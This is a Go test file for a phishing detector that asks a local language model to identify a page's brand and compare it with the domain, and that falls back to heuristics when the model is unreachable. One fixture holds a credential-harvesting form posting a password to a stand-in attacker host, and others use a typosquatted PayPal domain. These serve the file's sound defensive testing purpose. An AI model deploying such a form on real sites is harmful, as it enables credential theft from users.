package analysis

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestLocalAnalyzerTwoStepFlow(t *testing.T) {
	var prompts []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/api/generate" {
			t.Errorf("unexpected path %s", r.URL.Path)
		}
		var req ollamaRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			t.Fatalf("decode request: %v", err)
		}
		prompts = append(prompts, req.Prompt)

		reply := "paypal"
		if len(prompts) == 2 {
			if len(req.Images) != 0 {
				t.Error("domain matching call should not carry images")
			}
			reply = "1. BrandMatch: False\n2. Explanation: Typosquatted domain.\n3. Confidence: 0.88"
		} else if len(req.Images) != 1 {
			t.Errorf("brand identification call carried %d images, want 1", len(req.Images))
		}
		json.NewEncoder(w).Encode(ollamaResponse{Response: reply})
	}))
	defer srv.Close()

	a := NewLocalAnalyzer(srv.URL, "gemma3:4b", nil)
	match, err := a.Analyze(context.Background(), PageEvidence{
		Screenshot: []byte{0x89},
		Domain:     "paypa1.com",
		URL:        "https://paypa1.com/signin",
	})
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if len(prompts) != 2 {
		t.Fatalf("model called %d times, want 2", len(prompts))
	}
	if !strings.Contains(prompts[1], "paypal") {
		t.Errorf("domain matching prompt missing identified brand:\n%s", prompts[1])
	}
	if match.IdentifiedBrand != "paypal" {
		t.Errorf("IdentifiedBrand = %q", match.IdentifiedBrand)
	}
	if match.MatchesDomain {
		t.Error("MatchesDomain = true, want false")
	}
	if match.Confidence != 0.88 {
		t.Errorf("Confidence = %v, want 0.88", match.Confidence)
	}
}

func TestLocalAnalyzerHeuristicFallback(t *testing.T) {
	// No server listening: the model is unreachable, but the HTML shows a
	// password form posting off-domain, so a heuristic judgement comes back.
	a := NewLocalAnalyzer("http://127.0.0.1:1", "gemma3:4b", nil)
	match, err := a.Analyze(context.Background(), PageEvidence{
		Domain: "bank-login.example",
		URL:    "https://bank-login.example/",
		HTML:   `<form action="https://collector.evil/grab"><input type="password"></form>`,
	})
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	if match.MatchesDomain {
		t.Error("MatchesDomain = true, want false")
	}
	if match.Confidence != 0.5 {
		t.Errorf("Confidence = %v, want 0.5", match.Confidence)
	}
}

func TestLocalAnalyzerUnavailableWithoutSignals(t *testing.T) {
	a := NewLocalAnalyzer("http://127.0.0.1:1", "gemma3:4b", nil)
	_, err := a.Analyze(context.Background(), PageEvidence{
		Screenshot: []byte{0x89},
		Domain:     "example.com",
	})
	if !errors.Is(err, ErrModelUnavailable) {
		t.Errorf("err = %v, want ErrModelUnavailable", err)
	}
}

func TestLocalAnalyzerRejectsEmptyEvidence(t *testing.T) {
	a := NewLocalAnalyzer("http://127.0.0.1:1", "gemma3:4b", nil)
	_, err := a.Analyze(context.Background(), PageEvidence{Domain: "example.com"})
	if !errors.Is(err, ErrMalformedEvidence) {
		t.Errorf("err = %v, want ErrMalformedEvidence", err)
	}
}
